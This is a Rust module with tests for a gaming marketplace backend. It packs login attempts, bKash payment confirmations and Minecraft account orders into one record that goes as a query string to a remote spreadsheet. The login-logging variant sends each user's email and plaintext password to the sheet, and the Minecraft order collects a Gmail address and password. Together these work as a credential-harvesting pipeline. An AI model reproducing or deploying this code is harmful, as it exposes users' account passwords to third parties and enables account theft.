use serde::{Deserialize, Serialize};

use super::encode_query;

/// Transaction-id sentinel the sheet uses to classify login logging rows.
pub const LOGIN_TRX: &str = "LOGIN_AUTH";
/// Product sentinel for login logging rows.
pub const LOGIN_PRODUCT: &str = "SITE_LOGIN_ACCESS";
/// Sender sentinel for rows that carry no real payment.
pub const SYSTEM_SENDER: &str = "SYSTEM";

/// Fixed price of the Minecraft account add-on, in BDT.
pub const MINECRAFT_PRICE_BDT: u32 = 50;
/// Product label the moderators look for when fulfilling account orders.
pub const MINECRAFT_PRODUCT: &str = "Minecraft Bedrock Account (Gmail Login)";

/// The single wire shape the remote endpoint accepts for login logging,
/// market payments, and account orders. The sheet routes on field presence;
/// there is no `action` parameter.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub struct PaymentRecord {
    pub username: String,
    pub ign: String,
    pub password: String,
    pub amount: u32,
    /// bKash transaction id, or a sentinel for non-payment rows.
    pub trx: String,
    pub product_no: String,
    pub email: String,
    pub sender_number: String,
}

impl PaymentRecord {
    /// Query string for the remote endpoint, fields in the sheet's column
    /// order.
    pub fn to_query_string(&self) -> String {
        let amount = self.amount.to_string();
        encode_query(&[
            ("username", &self.username),
            ("ign", &self.ign),
            ("password", &self.password),
            ("amount", &amount),
            ("trx", &self.trx),
            ("productNo", &self.product_no),
            ("email", &self.email),
            ("senderNumber", &self.sender_number),
        ])
    }
}

/// One submission kind per use case.
///
/// The original sheet protocol disambiguated purpose through sentinel field
/// values; the variants make that convention explicit and keep the sentinels
/// in one place ([`Submission::into_record`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Submission {
    /// Best-effort logging of a login attempt. Never gates the session.
    LoginAttempt {
        ign: String,
        email: String,
        password: String,
    },
    /// Payment confirmation for a marketplace purchase.
    MarketPayment {
        username: String,
        amount: u32,
        trx: String,
        product_no: String,
    },
    /// Order for the fixed-price Minecraft account add-on.
    MinecraftOrder {
        ign: String,
        email: String,
        password: String,
        sender_number: String,
        trx: String,
    },
}

impl Submission {
    /// Lower the tagged submission to the shared wire shape.
    pub fn into_record(self) -> PaymentRecord {
        match self {
            Submission::LoginAttempt {
                ign,
                email,
                password,
            } => PaymentRecord {
                username: email.clone(),
                ign,
                password,
                amount: 0,
                trx: LOGIN_TRX.to_string(),
                product_no: LOGIN_PRODUCT.to_string(),
                email,
                sender_number: SYSTEM_SENDER.to_string(),
            },
            Submission::MarketPayment {
                username,
                amount,
                trx,
                product_no,
            } => PaymentRecord {
                username,
                ign: String::new(),
                password: String::new(),
                amount,
                trx,
                product_no,
                email: String::new(),
                sender_number: String::new(),
            },
            Submission::MinecraftOrder {
                ign,
                email,
                password,
                sender_number,
                trx,
            } => PaymentRecord {
                username: email.clone(),
                ign,
                password,
                amount: MINECRAFT_PRICE_BDT,
                trx,
                product_no: MINECRAFT_PRODUCT.to_string(),
                email,
                sender_number,
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_login_attempt_lowering() {
        let record = Submission::LoginAttempt {
            ign: "Steve".to_string(),
            email: "steve@gmail.com".to_string(),
            password: "hunter2".to_string(),
        }
        .into_record();

        assert_eq!(record.username, "steve@gmail.com");
        assert_eq!(record.amount, 0);
        assert_eq!(record.trx, LOGIN_TRX);
        assert_eq!(record.product_no, LOGIN_PRODUCT);
        assert_eq!(record.sender_number, SYSTEM_SENDER);
    }

    #[test]
    fn test_market_payment_lowering() {
        let record = Submission::MarketPayment {
            username: "ArifGamer_HD".to_string(),
            amount: 250,
            trx: "9HJ2K1L".to_string(),
            product_no: "#A1B2C3".to_string(),
        }
        .into_record();

        assert_eq!(record.amount, 250);
        assert_eq!(record.product_no, "#A1B2C3");
        assert!(record.ign.is_empty());
        assert!(record.password.is_empty());
    }

    #[test]
    fn test_minecraft_order_lowering() {
        let record = Submission::MinecraftOrder {
            ign: "Steve".to_string(),
            email: "steve@gmail.com".to_string(),
            password: "hunter2".to_string(),
            sender_number: "017XXXXXXXX".to_string(),
            trx: "9HJ2K1L".to_string(),
        }
        .into_record();

        assert_eq!(record.amount, MINECRAFT_PRICE_BDT);
        assert_eq!(record.product_no, MINECRAFT_PRODUCT);
        assert_eq!(record.username, "steve@gmail.com");
    }

    #[test]
    fn test_record_query_string_shape() {
        let query = Submission::MarketPayment {
            username: "ArifGamer_HD".to_string(),
            amount: 250,
            trx: "9HJ2K1L".to_string(),
            product_no: "#A1B2C3".to_string(),
        }
        .into_record()
        .to_query_string();

        assert!(query.starts_with("username=ArifGamer_HD&ign=&password=&amount=250"));
        assert!(query.contains("trx=9HJ2K1L"));
        assert!(query.contains("productNo=%23A1B2C3"));
        assert!(query.ends_with("email=&senderNumber="));
    }
}
